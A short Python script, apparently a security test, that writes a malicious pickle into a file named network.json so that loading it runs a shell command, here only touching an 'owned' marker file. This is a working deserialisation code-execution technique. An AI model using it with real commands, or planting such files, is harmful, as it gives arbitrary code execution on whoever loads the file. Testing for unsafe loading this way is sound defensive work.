"""Leaves an object that would run a command when it is loaded."""

import os
import pickle
from pathlib import Path


class Owned:
    """Runs a command in whoever loads it."""

    def __reduce__(self):
        return os.system, ("touch @FOLDER@/owned",)


path = Path(os.environ["CONTROLROOM_PRODUCED"], "network.json")
with path.open("wb") as file:
    pickle.dump(Owned(), file)
os._exit(0)
